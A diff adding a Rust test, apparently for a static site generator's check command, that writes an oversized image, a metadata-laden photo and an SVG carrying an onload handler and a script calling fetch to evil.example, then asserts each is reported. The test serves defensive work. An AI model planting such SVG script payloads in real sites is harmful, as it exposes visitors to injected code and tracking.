@@ -582,3 +582,56 @@ fn resize_image_errors_name_the_template_line() {
         .failure()
         .stderr_has("resize_image: unknown op `stretch`");
 }
+
+#[test]
+fn check_reports_large_originals_unprocessed_images_with_metadata_and_unsafe_svgs() {
+    let site = SiteTest::fixture("basic");
+    // 6,400 pixels wide: over the 6,000-pixel limit, though small in bytes.
+    put(
+        &site,
+        "content/guide/panorama.jpg",
+        &phone_jpeg(6400, 40, 1),
+    );
+    // A phone photo under a name the build does not know as an image: published as it is, metadata and all.
+    put(
+        &site,
+        "static/downloads/photo.jpg_large",
+        &phone_jpeg(64, 48, 1),
+    );
+    site.write(
+        "static/images/badge.svg",
+        "<?xml version=\"1.0\"?>\n<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"track()\">\n\
+         <script>fetch('https://evil.example/p')</script>\n\
+         <image href=\"https://cdn.example.com/face.png\" width=\"10\" height=\"10\"/>\n\
+         <style>\n.a { fill: url(#grad) }\n@import url(https://fonts.example.net/f.css);\n</style>\n\
+         <a xlink:href=\"#local\"><rect width=\"5\" height=\"5\"/></a>\n</svg>\n",
+    );
+    site.write(
+        "static/images/plain.svg",
+        "<svg xmlns=\"http://www.w3.org/2000/svg\"><rect width=\"5\" height=\"5\"/></svg>\n",
+    );
+    let run = site.run(&["check"]);
+    run.failure();
+    let out = run.stdout();
+    let has = |text: &str| assert!(out.contains(text), "missing {text:?} in:\n{out}");
+    has("content/guide/panorama.jpg: warning: this image is 6400 × 40 pixels");
+    has("[image-size]");
+    has(
+        "public/downloads/photo.jpg_large: error: this published image still holds EXIF, XMP, IPTC or comments",
+    );
+    has("static/images/badge.svg:2: error: this SVG has an event handler `onload`");
+    has("static/images/badge.svg:3: error: this SVG holds a <script>");
+    has(
+        "static/images/badge.svg:4: error: this SVG loads `https://cdn.example.com/face.png` from another host",
+    );
+    has(
+        "static/images/badge.svg:7: error: this SVG loads `https://fonts.example.net/f.css` from another host",
+    );
+    assert!(!out.contains("plain.svg"), "{out}");
+    assert!(!out.contains("#grad") && !out.contains("#local"), "{out}");
+    // Nothing the build made is reported: its own images are clean.
+    assert!(
+        !out.contains("public/guide/panorama.jpg") && !out.contains("processed_images"),
+        "{out}"
+    );
+}
